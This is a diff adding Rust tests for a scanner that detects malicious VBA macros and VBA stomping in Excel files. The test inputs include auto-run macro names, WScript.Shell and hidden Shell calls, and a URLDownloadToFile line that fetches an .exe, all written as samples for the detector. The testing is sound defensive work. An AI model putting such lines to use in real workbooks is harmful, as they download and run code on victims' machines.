@@ -0,0 +1,84 @@
+use std::path::Path;
+use unlock_excel::lenient::Options;
+use unlock_excel::scan::{scan_line, xl, xl_97, xl_97_is_stomped, xl_is_stomped, Kind};
+
+#[test]
+fn scan_clean_xlsm() {
+    let findings = xl(
+        Path::new("tests/data/xlsm/Locked_with_macro.xlsm"),
+        &Options::default(),
+    )
+    .unwrap();
+    assert!(findings.is_empty());
+}
+
+#[test]
+fn scan_clean_xls() {
+    let findings = xl_97(
+        Path::new("tests/data/xls/Locked_with_macro.xls"),
+        &Options::default(),
+    )
+    .unwrap();
+    assert!(findings.is_empty());
+}
+
+#[test]
+fn not_stomped() {
+    for file in [
+        "tests/data/xlsm/Locked_with_macro.xlsm",
+        "tests/data/xlsb/Unlocked_with_macro.xlsb",
+    ] {
+        assert!(!xl_is_stomped(Path::new(file), &Options::default()).unwrap());
+    }
+    assert!(!xl_97_is_stomped(
+        Path::new("tests/data/xls/Unlocked_with_macro.xls"),
+        &Options::default()
+    )
+    .unwrap());
+}
+
+#[test]
+fn scan_auto_exec() {
+    assert_eq!(
+        scan_line("Private Sub Workbook_Open()"),
+        vec![(Kind::AutoExec, "Workbook_Open".to_string())]
+    );
+    assert_eq!(
+        scan_line("Sub AutoOpen"),
+        vec![(Kind::AutoExec, "AutoOpen".to_string())]
+    );
+    assert!(scan_line("Sub Workbook_Opened()").is_empty());
+    assert!(scan_line("    Workbook_Open").is_empty());
+}
+
+#[test]
+fn scan_suspicious_calls() {
+    assert_eq!(
+        scan_line("    Set sh = CreateObject(\"WScript.Shell\")"),
+        vec![
+            (Kind::Suspicious, "WScript.Shell".to_string()),
+            (Kind::Suspicious, "CreateObject".to_string()),
+        ]
+    );
+    assert_eq!(
+        scan_line("x = Shell(\"calc.exe\", vbHide)"),
+        vec![(Kind::Suspicious, "Shell".to_string())]
+    );
+    assert!(scan_line("Dim shellfish As Long").is_empty());
+    assert!(scan_line("' CreateObject is fine in a comment").is_empty());
+}
+
+#[test]
+fn scan_urls() {
+    assert_eq!(
+        scan_line("URLDownloadToFile 0, \"https://example.com/a.exe\", path, 0, 0"),
+        vec![
+            (Kind::Suspicious, "URLDownloadToFile".to_string()),
+            (Kind::Url, "https://example.com/a.exe".to_string()),
+        ]
+    );
+    assert_eq!(
+        scan_line("' see http://example.com"),
+        vec![(Kind::Url, "http://example.com".to_string())]
+    );
+}